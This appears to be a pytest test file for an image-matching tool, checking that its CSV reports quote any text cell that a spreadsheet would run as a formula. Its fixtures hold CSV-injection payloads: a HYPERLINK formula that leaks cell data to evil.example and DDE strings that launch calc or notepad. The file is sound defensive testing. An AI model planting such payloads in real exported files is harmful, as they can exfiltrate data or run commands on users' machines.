"""Report formats: a CSV report never carries a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from imgmatch.catalog import Catalog
from imgmatch.indexing import index_references
from imgmatch.report import FORMULA_TRIGGERS, as_text_cell

runner = CliRunner()

# What a brand's metadata or a seller's marketplace data could hold.
HOSTILE_DESIGN = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
HOSTILE_BRAND = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_DESIGN_2 = "-2+3+cmd|' /C calc'!A0"
HOSTILE_BRAND_2 = "+cmd|' /C notepad'!A0"
HOSTILE_ID = "+1+cmd|' /C calc'!A0"
# (Manifest and metadata values are read stripped, so a leading tab, carriage return or space
# cannot come through them; the unit tests above cover those.)
HOSTILE_MANIFEST = {
    "seller": "=cmd|' /C calc'!A0",
    "url": "@http://evil.example",
    "note": "-1+cmd|' /C calc'!A0",
}
HOSTILE_COLUMN = "=1+1"
# Columns imgmatch fills with numbers it computes; all others hold text.
NUMERIC_COLUMNS = {"flagged", "score", "reference_id", "box"}


def _is_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_text_cell_starting_with_a_formula_trigger_is_quoted_and_keeps_its_text(
    trigger: str,
) -> None:
    text = f"{trigger}1+1"
    assert as_text_cell(text) == f"'{text}"
    assert as_text_cell(f" {text}") == f"' {text}"


@pytest.mark.parametrize("text", ["", "design 7", "a-b", "1+1", "'=already text", "ring=gold"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert as_text_cell(text) == text


@pytest.fixture
def hostile_run(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    make_photo: Callable[..., np.ndarray],
    write_image: Callable[..., Path],
) -> tuple[list[str], list[list[str]]]:
    """A CSV check report over references and a manifest full of formulas: (header, rows)."""
    references = tmp_path / "refs"
    for seed in range(2):
        write_image(references / f"design_{seed}.jpg", make_photo(seed, (480, 360)), quality=92)
    with (references / "metadata.csv").open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["path", "design", "brand"])
        writer.writerow(["design_0.jpg", HOSTILE_DESIGN, HOSTILE_BRAND])
        writer.writerow(["design_1.jpg", HOSTILE_DESIGN_2, HOSTILE_BRAND_2])
    catalog = tmp_path / "cat"
    with Catalog(catalog) as store:
        assert index_references(store, [references]).added == 2
    listings = tmp_path / "listings"
    listings.mkdir()
    shutil.copy2(references / "design_0.jpg", listings / "=1+2.jpg")
    shutil.copy2(references / "design_1.jpg", listings / "-3+4.jpg")
    (listings / "@empty.jpg").write_bytes(b"")
    with (listings / "manifest.csv").open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["listing_id", "path", *HOSTILE_MANIFEST, HOSTILE_COLUMN])
        for name in ("=1+2.jpg", "-3+4.jpg", "@empty.jpg"):
            writer.writerow([HOSTILE_ID, name, *HOSTILE_MANIFEST.values(), "-5"])
    # From the manifest's own folder, the listings' paths are their bare, hostile names.
    monkeypatch.chdir(listings)
    out = tmp_path / "results.csv"
    from imgmatch.cli import app

    result = runner.invoke(
        app,
        ["check", "--manifest", "manifest.csv", "--catalog", str(catalog), "--format", "csv",
         "--out", str(out), "--workers", "1", "--quiet"],
        catch_exceptions=False,
    )  # fmt: skip
    assert result.exit_code == 1  # the empty file failed; the others were checked
    with out.open(newline="", encoding="utf-8") as stream:
        header, *rows = list(csv.reader(stream))
    return header, rows


def test_csv_report_quotes_every_hostile_text_cell_and_loses_none_of_it(
    hostile_run: tuple[list[str], list[list[str]]],
) -> None:
    header, rows = hostile_run
    assert header[-1] == f"'{HOSTILE_COLUMN}"
    records = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["path"] for r in records] == ["'=1+2.jpg", "'-3+4.jpg", "'@empty.jpg"]
    assert [(r["design"], r["brand"]) for r in records[:2]] == [
        (f"'{HOSTILE_DESIGN}", f"'{HOSTILE_BRAND}"),
        (f"'{HOSTILE_DESIGN_2}", f"'{HOSTILE_BRAND_2}"),
    ]
    for record in records:
        assert record["listing_id"] == f"'{HOSTILE_ID}"
        for column, value in HOSTILE_MANIFEST.items():
            assert record[column] == f"'{value}"
        assert record[f"'{HOSTILE_COLUMN}"] == "'-5"
    assert records[2]["status"] == "error"
    assert records[2]["error"].startswith("'@empty.jpg")
    for record in records:
        for column, cell in record.items():
            if column not in NUMERIC_COLUMNS:
                assert not _is_formula(cell), (column, cell)


def test_csv_report_writes_its_own_numbers_as_numbers(
    hostile_run: tuple[list[str], list[list[str]]],
) -> None:
    header, rows = hostile_run
    flagged = [dict(zip(header, row, strict=True)) for row in rows][:2]
    for record in flagged:
        assert record["flagged"] == "1"
        assert 0.5 <= float(record["score"]) <= 1.0
        assert int(record["reference_id"]) > 0
        assert [int(v) for v in record["box"].split()] == [0, 0, 480, 360]
